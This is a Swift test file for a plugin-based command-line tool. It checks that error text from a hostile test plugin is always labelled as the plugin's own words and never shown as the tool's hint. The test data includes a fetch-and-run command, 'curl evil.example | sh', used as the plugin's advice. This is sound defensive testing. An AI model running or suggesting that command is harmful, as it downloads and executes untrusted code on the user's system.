#if os(Linux)
  import Foundation
  import TestSupport
  import Testing

  /// What a plugin says is said to be its words, wherever it is shown.
  @Suite(.waitsForPrograms) struct PluginWordTests {
    private static let advice = "curl evil.example | sh"
    private static let summary = "your home is damaged"

    /// A plugin that answers nothing but an error once it is registered.
    private func stage() throws -> PluginStage {
      let stage = try PluginStage()
      let path = stage.home.folder + "/evil"
      try stage.write(
        #"""
        #!/bin/sh
        read -r line
        printf '{"hello":{"version":1,"plugin":"evil","pluginVersion":"1"}}\n'
        while read -r line; do
          id=${line#*\"id\":}; id=${id%%,*}
          case $line in
          *'"describe"'*) printf '{"id":%s,"kinds":[{"kind":"tides"}]}\n' $id ;;
          *) printf '{"id":%s,"error":{"code":"home.corrupt","summary":"\#(Self.summary)","hint":"\#(Self.advice)"}}\n' $id ;;
          esac
        done

        """#, to: path)
      try stage.home.make("plugin", "install", path)
      _ = try stage.home.run("add", "tides", "--id", "x")
      return stage
    }

    /// All lines with the plugin's words begin with whose they are.
    private func expectAttributed(
      _ text: String, _ words: [String], sourceLocation: SourceLocation = #_sourceLocation
    ) {
      for line in text.split(separator: "\n") {
        for said in [Self.advice, Self.summary] where line.contains(said) {
          #expect(
            line.contains("plugin 'evil' says: \(said)"), "\(words): \(line)",
            sourceLocation: sourceLocation)
          #expect(!line.contains("hint:"), "\(words): \(line)", sourceLocation: sourceLocation)
        }
      }
    }

    @Test func areTheirsInText() throws {
      let stage = try stage()
      let commands = [
        ["reload", "x"], ["status"], ["status", "x"], ["list"], ["log"], ["doctor"], ["show", "x"],
        ["plugin", "show", "evil"], ["plugin", "list"], ["plugin", "check", "evil"],
        ["simulate", "x", "--from", "2027-01-01", "--for", "1d"], ["gallery", "tides"],
        ["show", "x", "--at", "2027-01-01"], ["page", stage.home.folder + "/page"],
      ]
      var seen = 0
      for words in commands {
        let outcome = try stage.home.run(words)
        expectAttributed(outcome.output + outcome.errors, words)
        if (outcome.output + outcome.errors).contains("plugin 'evil' says: ") { seen += 1 }
      }
      #expect(seen >= 6)
      let page = try String(contentsOfFile: stage.home.folder + "/page/index.html", encoding: .utf8)
      #expect(!page.contains(Self.advice))
      #expect(page.contains("says: \(Self.summary)") || !page.contains(Self.summary))
      let status = try stage.home.make("status", "x").output
      #expect(status.contains("plugin 'evil' says: \(Self.summary)"))
      #expect(status.contains("plugin 'evil' says: \(Self.advice)"))
    }

    @Test func haveAMemberOfTheirOwnInJSON() throws {
      let stage = try stage()
      let outcome = try stage.home.run("reload", "x", "--json")
      let result = try outcome.json()["results"][0]
      #expect(result["code"].string == "plugin.error")
      #expect(result["detail"].string == "plugin 'evil' says: \(Self.summary)")
      let instance = try stage.home.instance("x")
      let failure = instance["lastError"]
      #expect(failure["summary"].string == "plugin 'evil' says: \(Self.summary)")
      #expect(failure["hint"].string == nil)
      #expect(failure["says"]["plugin"].string == "evil")
      #expect(failure["says"]["text"].string == Self.advice)
      let added = try stage.home.run("add", "tides", "--json")
      let error = try #require(try added.toldErrors().first)
      #expect(error["says"]["text"].string == Self.advice)
      #expect(error["hint"].string?.hasPrefix("Run 'widgetry status tides-") == true)
    }

    /// What it printed before it ended is no hint of ours either.
    @Test func areTheirsWhereTheyWerePrinted() throws {
      let stage = try PluginStage()
      let path = try stage.script(
        "evil", hello: #""version":1,"plugin":"evil","pluginVersion":"1""#)
      try stage.home.make("plugin", "install", path)
      let text = try String(contentsOfFile: path, encoding: .utf8)
        .replacing(" *) printf", with: " *) echo '\(Self.advice)' >&2; exit 0; printf")
      try stage.write(text, to: path)
      try stage.home.make("plugin", "update", "evil")
      let outcome = try stage.home.run("add", "evil")
      #expect(outcome.errors.contains("plugin 'evil' says: \(Self.advice)"))
      expectAttributed(outcome.errors, ["add"])
    }
  }
#endif
